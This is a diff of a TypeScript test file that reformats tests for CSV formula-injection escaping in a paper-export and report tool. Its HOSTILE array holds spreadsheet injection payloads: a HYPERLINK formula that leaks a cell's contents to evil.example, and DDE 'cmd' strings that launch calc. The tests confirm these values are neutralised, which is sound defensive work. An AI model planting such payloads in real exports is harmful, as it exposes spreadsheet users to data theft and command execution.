@@ -15,7 +15,12 @@ import { csvField } from '../../src/export/csv-field.ts';
 import { bundledApp, query } from '../helpers/app.ts';
 import { captureIO, tempFiles } from '../helpers/files.ts';
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+];
 const papers = [
   { id: 'p1', title: 'One', authors: [HOSTILE[0], HOSTILE[1], 'Ada Lovelace'], year: 2020 },
   { id: 'p2', title: 'Two', authors: [HOSTILE[2], HOSTILE[3], 'Ada Lovelace'], year: 2021 },
@@ -31,7 +36,17 @@ async function run(command: string, ...args: string[]) {
 const cells = (csv: string) => (parseCsv(csv, { relaxColumnCount: true }) as string[][]).flat();
 
 describe('csvField', () => {
-  it.each([['=1+1', "'=1+1"], ['+1', "'+1"], ['-1', "'-1"], ['@A1', "'@A1"], ['\tx', "'\tx"], ['\rx', "\"'\rx\""], ['a,b', '"a,b"'], ['say "hi"', '"say ""hi"""'], ['Ada', 'Ada']])('writes %j as %j', (text, field) => {
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@A1', "'@A1"],
+    ['\tx', "'\tx"],
+    ['\rx', '"\'\rx"'],
+    ['a,b', '"a,b"'],
+    ['say "hi"', '"say ""hi"""'],
+    ['Ada', 'Ada'],
+  ])('writes %j as %j', (text, field) => {
     expect(csvField(text)).toBe(field);
   });
 
@@ -71,10 +86,33 @@ describe('export --format csv', () => {
 
 describe('report --format csv', () => {
   it('neutralises hostile names, and --csv-raw keeps them', async () => {
-    const safe = await run('report', '--data', file, '--metric', 'degree', '--top', '10', '--format', 'csv', '--no-cache');
+    const safe = await run(
+      'report',
+      '--data',
+      file,
+      '--metric',
+      'degree',
+      '--top',
+      '10',
+      '--format',
+      'csv',
+      '--no-cache',
+    );
     expect(safe.code).toBe(0);
     for (const name of HOSTILE) expect(cells(safe.stdout)).toContain(`'${name}`);
-    const raw = await run('report', '--data', file, '--metric', 'degree', '--top', '10', '--format', 'csv', '--no-cache', '--csv-raw');
+    const raw = await run(
+      'report',
+      '--data',
+      file,
+      '--metric',
+      'degree',
+      '--top',
+      '10',
+      '--format',
+      'csv',
+      '--no-cache',
+      '--csv-raw',
+    );
     for (const name of HOSTILE) expect(cells(raw.stdout)).toContain(name);
   });
 });
